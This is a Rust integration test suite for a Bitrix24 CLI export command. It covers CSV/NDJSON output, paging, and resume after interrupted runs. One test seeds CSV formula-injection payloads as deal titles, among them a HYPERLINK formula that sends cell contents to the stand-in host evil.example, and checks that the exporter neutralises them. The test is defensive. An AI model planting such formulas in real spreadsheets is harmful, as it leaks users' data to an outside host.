//! `b24 list`: 20,000 deals to NDJSON and CSV, and exports interrupted (SIGINT, SIGKILL)
//! and resumed, checked row by row: every id exactly once.
#![cfg(unix)]

use std::collections::HashSet;
use std::path::Path;
use std::process::{Child, Stdio};
use std::time::{Duration, Instant};

use crate::support::{Portal, b24_webhook, run};
use bitrix24_sandbox::{Fault, Injection, SandboxConfig};
use serde_json::Value;

const DEALS: usize = 20_000;

fn portal() -> Portal {
    // Offset paging makes the portal count rows on every page, which a real portal's
    // operating-time limit would soon block; the tests that use it are about paging.
    Portal::start(
        SandboxConfig::default()
            .seed_deals(DEALS)
            .operating_limit(None),
    )
}

/// The ids of an NDJSON export, in file order.
fn ndjson_ids(path: &Path) -> Vec<i64> {
    let text = std::fs::read_to_string(path).unwrap();
    text.lines()
        .map(|line| {
            let row: Value = serde_json::from_str(line).unwrap_or_else(|e| panic!("{e}: {line}"));
            row["ID"].as_str().unwrap().parse().unwrap()
        })
        .collect()
}

/// Header and rows of a CSV export (a small RFC 4180 reader: quoted cells may hold commas,
/// quotes and line breaks).
fn read_csv(path: &Path) -> (Vec<String>, Vec<Vec<String>>) {
    let text = std::fs::read_to_string(path).unwrap();
    let mut rows = Vec::new();
    let mut row = Vec::new();
    let mut cell = String::new();
    let mut quoted = false;
    let mut chars = text.chars().peekable();
    while let Some(c) = chars.next() {
        match (quoted, c) {
            (true, '"') if chars.peek() == Some(&'"') => {
                chars.next();
                cell.push('"');
            }
            (true, '"') => quoted = false,
            (true, c) => cell.push(c),
            (false, '"') => quoted = true,
            (false, ',') => row.push(std::mem::take(&mut cell)),
            (false, '\n') => {
                row.push(std::mem::take(&mut cell));
                rows.push(std::mem::take(&mut row));
            }
            (false, c) => cell.push(c),
        }
    }
    assert!(
        cell.is_empty() && row.is_empty(),
        "the file ends with a complete line"
    );
    let header = rows.remove(0);
    (header, rows)
}

fn assert_every_id_once(ids: &[i64]) {
    assert_eq!(ids.len(), DEALS, "row count");
    let unique: HashSet<i64> = ids.iter().copied().collect();
    assert_eq!(unique.len(), DEALS, "no duplicates");
    assert_eq!(unique, (1..=DEALS as i64).collect(), "no gaps");
}

#[test]
fn exports_20000_deals_to_ndjson_with_unique_ids() {
    let home = tempfile::tempdir().unwrap();
    let portal = portal();
    let out = home.path().join("deals.ndjson");
    let started = Instant::now();
    let (code, stdout, err) = run(b24_webhook(home.path(), &portal)
        .args(["list", "crm.deal.list", "--out"])
        .arg(&out));
    let elapsed = started.elapsed();
    assert_eq!(code, 0, "{err}");
    assert!(stdout.is_empty(), "rows go to the file");
    let ids = ndjson_ids(&out);
    assert_every_id_once(&ids);
    assert!(ids.windows(2).all(|w| w[0] < w[1]), "in id order");
    assert!(err.contains("20000 rows to"), "{err}");
    assert!(err.contains("keyset paging"), "{err}");
    assert!(
        !Path::new(&format!("{}.b24-state.json", out.display())).exists(),
        "state removed"
    );
    eprintln!(
        "NDJSON export of {DEALS} deals: {elapsed:?} ({})",
        err.lines().last().unwrap_or("")
    );
}

#[test]
fn exports_20000_deals_to_csv_with_exact_row_count() {
    let home = tempfile::tempdir().unwrap();
    let portal = portal();
    let out = home.path().join("deals.csv");
    let started = Instant::now();
    let (code, _, err) = run(b24_webhook(home.path(), &portal)
        .args(["list", "crm.deal.list", "--quiet", "--out"])
        .arg(&out));
    let elapsed = started.elapsed();
    assert_eq!(code, 0, "{err}");
    assert!(err.is_empty(), "--quiet: {err}");
    let (header, rows) = read_csv(&out);
    // Without --select: the keys of the first page.
    assert_eq!(header[0], "ID");
    assert!(header.contains(&"TITLE".to_owned()) && header.contains(&"OPPORTUNITY".to_owned()));
    assert!(
        rows.iter().all(|r| r.len() == header.len()),
        "every row has every column"
    );
    let ids: Vec<i64> = rows.iter().map(|r| r[0].parse().unwrap()).collect();
    assert_every_id_once(&ids);
    let title = header.iter().position(|h| h == "TITLE").unwrap();
    assert_eq!(rows[6][title], "Deal #7");
    eprintln!("CSV export of {DEALS} deals: {elapsed:?}");
}

#[test]
fn csv_columns_follow_select_and_nested_values_are_json() {
    let home = tempfile::tempdir().unwrap();
    let portal = portal();
    let out = home.path().join("some.csv");
    // The id comes first even when not selected: keyset paging (and resume) goes by it.
    let (code, _, err) = run(b24_webhook(home.path(), &portal)
        .args(["list", "crm.deal.list", "--select", "TITLE,OPPORTUNITY"])
        .args(["--filter", ">OPPORTUNITY=9900", "--out"])
        .arg(&out));
    assert_eq!(code, 0, "{err}");
    let (header, rows) = read_csv(&out);
    assert_eq!(header, ["ID", "TITLE", "OPPORTUNITY"]);
    assert!(
        !rows.is_empty() && rows.len() < DEALS,
        "filtered: {}",
        rows.len()
    );
    assert!(rows.iter().all(|r| r[2].parse::<f64>().unwrap() > 9900.0));
    // user.get rows hold a list (UF_DEPARTMENT): a JSON cell.
    let users = home.path().join("users.csv");
    let (code, _, err) = run(b24_webhook(home.path(), &portal)
        .args(["list", "user.get", "--out"])
        .arg(&users));
    assert_eq!(code, 0, "{err}");
    let (header, rows) = read_csv(&users);
    let department = header
        .iter()
        .position(|h| h == "UF_DEPARTMENT")
        .expect("UF_DEPARTMENT");
    assert_eq!(rows[0][department], "[1]");
    assert!(
        err.contains("offset paging"),
        "user.get has start paging: {err}"
    );
}

#[test]
fn offset_and_next_paging_read_the_same_rows() {
    let home = tempfile::tempdir().unwrap();
    let portal = portal();
    // An order other than the id rules keyset paging out: batched offset pages.
    let ordered = home.path().join("ordered.ndjson");
    let (code, _, err) = run(b24_webhook(home.path(), &portal)
        .args([
            "list",
            "crm.deal.list",
            "--order",
            "OPPORTUNITY=DESC",
            "--select",
            "ID,OPPORTUNITY",
        ])
        .args(["--filter", ">OPPORTUNITY=9000", "--out"])
        .arg(&ordered));
    assert_eq!(code, 0, "{err}");
    assert!(err.contains("offset paging"), "{err}");
    let rows: Vec<Value> = std::fs::read_to_string(&ordered)
        .unwrap()
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    let amounts: Vec<f64> = rows
        .iter()
        .map(|r| r["OPPORTUNITY"].as_str().unwrap().parse().unwrap())
        .collect();
    assert!(
        amounts.windows(2).all(|w| w[0] >= w[1]),
        "in the order asked for"
    );
    // One call at a time following `next`: what methods outside the schema get.
    let sequential = home.path().join("sequential.ndjson");
    let (code, _, err) = run(b24_webhook(home.path(), &portal)
        .args([
            "list",
            "crm.deal.list",
            "--paging",
            "next",
            "--plan",
            "unlimited",
        ])
        .args([
            "--filter",
            ">OPPORTUNITY=9000",
            "--select",
            "ID,OPPORTUNITY",
            "--out",
        ])
        .arg(&sequential));
    assert_eq!(code, 0, "{err}");
    assert!(err.contains("next paging"), "{err}");
    let mut a = ndjson_ids(&ordered);
    let mut b = ndjson_ids(&sequential);
    assert_eq!(a.len(), b.len());
    assert!(a.len() > 100, "several pages: {}", a.len());
    a.sort_unstable();
    b.sort_unstable();
    assert_eq!(a, b);
}

#[test]
fn list_refuses_what_it_cannot_page() {
    let home = tempfile::tempdir().unwrap();
    let portal = portal();
    let out = home.path().join("x.ndjson");
    for (args, expected) in [
        (vec!["list", "crm.deal.get", "ID=1"], "not a list method"),
        (
            vec!["list", "crm.deal.list", "start=50"],
            "start is set by b24 list",
        ),
        (
            vec!["list", "crm.deal.list", "--filter", "TITEL=x", "--selct"],
            "unexpected argument",
        ),
        (
            vec![
                "list",
                "crm.deal.list",
                "--paging",
                "keyset",
                "--order",
                "TITLE",
            ],
            "--paging keyset",
        ),
        (
            vec!["list", "crm.deal.list", "--order", "TITLE=UP"],
            "FIELD=ASC",
        ),
    ] {
        let (code, _, err) = run(b24_webhook(home.path(), &portal)
            .args(&args)
            .arg("--out")
            .arg(&out));
        assert_eq!(code, 2, "{args:?}: {err}");
        assert!(err.contains(expected), "{args:?}: {err}");
    }
    let (code, _, err) = run(b24_webhook(home.path(), &portal)
        .args(["list", "crm.deal.list", "--out"])
        .arg(home.path().join("deals.txt")));
    assert_eq!(code, 2);
    assert!(err.contains("--format ndjson|csv"), "{err}");
}

/// Starts an export whose batches each take `delay` longer, and waits until `min_rows` rows
/// are in the output.
fn start_slow_export(portal: &Portal, home: &Path, out: &Path, extra: &[&str]) -> Child {
    portal.sandbox.inject_with(
        Injection::new(Fault::slow(Duration::from_millis(400)))
            .method("batch")
            .after_execution()
            .always(),
    );
    let child = b24_webhook(home, portal)
        .args(["list", "crm.deal.list", "--concurrency", "1", "--out"])
        .arg(out)
        .args(extra)
        .stdin(Stdio::null())
        .stdout(Stdio::null())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let deadline = Instant::now() + Duration::from_secs(60);
    loop {
        let lines = std::fs::read(out)
            .map(|d| d.iter().filter(|&&b| b == b'\n').count())
            .unwrap_or(0);
        if lines >= 2_500 {
            break;
        }
        assert!(Instant::now() < deadline, "the export never got going");
        std::thread::sleep(Duration::from_millis(20));
    }
    child
}

fn signal(child: &Child, signal: i32) {
    let pid = i32::try_from(child.id()).unwrap();
    // SAFETY: sends a signal to our own child process; no memory is involved.
    let result = unsafe { libc::kill(pid, signal) };
    assert_eq!(result, 0);
}

fn state_of(out: &Path) -> Value {
    let path = format!("{}.b24-state.json", out.display());
    serde_json::from_slice(&std::fs::read(path).expect("a state file")).unwrap()
}

#[test]
fn resume_after_sigint_has_every_id_exactly_once() {
    let home = tempfile::tempdir().unwrap();
    let portal = portal();
    let out = home.path().join("deals.ndjson");
    let child = start_slow_export(&portal, home.path(), &out, &[]);
    signal(&child, libc::SIGINT);
    let output = child.wait_with_output().unwrap();
    let err = String::from_utf8_lossy(&output.stderr);
    assert_eq!(output.status.code(), Some(130), "{err}");
    assert!(
        err.contains("interrupted:") && err.contains("--resume"),
        "{err}"
    );
    let state = state_of(&out);
    let written = state["rows"].as_u64().unwrap();
    assert!(written > 0 && written < DEALS as u64, "{state}");
    assert_eq!(
        ndjson_ids(&out).len() as u64,
        written,
        "a clean stop leaves only recorded rows"
    );
    assert_eq!(state["last_id"].as_i64().unwrap(), written as i64);

    // A fresh start would throw the work away: refused without --force.
    let (code, _, err) = run(b24_webhook(home.path(), &portal)
        .args(["list", "crm.deal.list", "--out"])
        .arg(&out));
    assert_eq!(code, 2);
    assert!(err.contains("--resume"), "{err}");
    // A different export can't take it over.
    let (code, _, err) = run(b24_webhook(home.path(), &portal)
        .args([
            "list",
            "crm.deal.list",
            "--select",
            "ID",
            "--resume",
            "--out",
        ])
        .arg(&out));
    assert_eq!(code, 2);
    assert!(err.contains("belongs to another export"), "{err}");

    portal.sandbox.clear_faults();
    let (code, _, err) = run(b24_webhook(home.path(), &portal)
        .args(["list", "crm.deal.list", "--resume", "--out"])
        .arg(&out));
    assert_eq!(code, 0, "{err}");
    assert!(err.contains(&format!("(resumed after {written})")), "{err}");
    let ids = ndjson_ids(&out);
    assert_every_id_once(&ids);
    assert!(ids.windows(2).all(|w| w[0] < w[1]));
}

#[test]
fn resume_after_sigkill_has_every_id_exactly_once() {
    let home = tempfile::tempdir().unwrap();
    let portal = portal();
    let out = home.path().join("deals.csv");
    let child = start_slow_export(&portal, home.path(), &out, &[]);
    signal(&child, libc::SIGKILL);
    let output = child.wait_with_output().unwrap();
    assert_eq!(output.status.code(), None, "killed");
    // Whatever the kill interrupted, the state never claims more than the file holds.
    let state = state_of(&out);
    assert!(std::fs::metadata(&out).unwrap().len() >= state["bytes"].as_u64().unwrap());
    // Simulate the worst moment: a row half-written past the checkpoint.
    {
        use std::io::Write;
        let mut file = std::fs::OpenOptions::new().append(true).open(&out).unwrap();
        file.write_all(b"99999,Half a ro").unwrap();
    }
    portal.sandbox.clear_faults();
    let (code, _, err) = run(b24_webhook(home.path(), &portal)
        .args(["list", "crm.deal.list", "--resume", "--out"])
        .arg(&out));
    assert_eq!(code, 0, "{err}");
    assert!(err.contains("dropped"), "the partial row is cut off: {err}");
    let (header, rows) = read_csv(&out);
    assert_eq!(header[0], "ID");
    assert!(rows.iter().all(|r| r.len() == header.len()));
    let ids: Vec<i64> = rows.iter().map(|r| r[0].parse().unwrap()).collect();
    assert_every_id_once(&ids);
}

#[test]
fn offset_export_resumes_after_sigint_too() {
    let home = tempfile::tempdir().unwrap();
    let portal = portal();
    let out = home.path().join("offset.ndjson");
    let child = start_slow_export(&portal, home.path(), &out, &["--paging", "offset"]);
    signal(&child, libc::SIGTERM);
    let output = child.wait_with_output().unwrap();
    assert_eq!(
        output.status.code(),
        Some(130),
        "{}",
        String::from_utf8_lossy(&output.stderr)
    );
    assert_eq!(state_of(&out)["mode"], "offset");
    portal.sandbox.clear_faults();
    let (code, _, err) = run(b24_webhook(home.path(), &portal)
        .args([
            "list",
            "crm.deal.list",
            "--paging",
            "offset",
            "--resume",
            "--out",
        ])
        .arg(&out));
    assert_eq!(code, 0, "{err}");
    assert_every_id_once(&ndjson_ids(&out));
}

#[test]
#[allow(deprecated)] // crm.deal.* is what `b24 list crm.deal.list` reads.
fn csv_cells_that_a_spreadsheet_would_run_as_formulas_are_neutralised() {
    let home = tempfile::tempdir().unwrap();
    let portal = Portal::start(SandboxConfig::default());
    let titles = [
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")",
        "+1+1",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1",
        "Roof repair",
        "-7",
    ];
    let client = bitrix24::Client::webhook(&portal.webhook()).unwrap();
    for title in titles {
        portal
            .block_on(std::future::IntoFuture::into_future(
                client.crm_deal_add().fields(
                    bitrix24::crm::DealFields::new()
                        .title(title)
                        .opportunity(-1500.0),
                ),
            ))
            .unwrap();
    }
    let out = home.path().join("titles.csv");
    let (code, _, err) = run(b24_webhook(home.path(), &portal)
        .args([
            "list",
            "crm.deal.list",
            "--select",
            "TITLE,OPPORTUNITY",
            "--out",
        ])
        .arg(&out));
    assert_eq!(code, 0, "{err}");
    let (header, rows) = read_csv(&out);
    assert_eq!(header, ["ID", "TITLE", "OPPORTUNITY"]);
    let cells: Vec<&str> = rows.iter().map(|r| r[1].as_str()).collect();
    assert_eq!(
        cells,
        [
            "'=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")",
            "'+1+1",
            "'-2+3",
            "'@SUM(A1:A9)",
            "'\t=1",
            "Roof repair",
            // A number is a number, not a formula.
            "-7",
        ]
    );
    assert!(
        rows.iter().all(|r| r[2].parse::<f64>() == Ok(-1500.0)),
        "negative amounts stay numbers: {rows:?}"
    );

    // Told to, the cells are written as they are.
    let raw = home.path().join("raw.csv");
    let (code, _, err) = run(b24_webhook(home.path(), &portal)
        .args([
            "list",
            "crm.deal.list",
            "--select",
            "TITLE",
            "--csv-formulas",
            "--out",
        ])
        .arg(&raw));
    assert_eq!(code, 0, "{err}");
    let (_, rows) = read_csv(&raw);
    let cells: Vec<&str> = rows.iter().map(|r| r[1].as_str()).collect();
    assert_eq!(cells, titles);
}
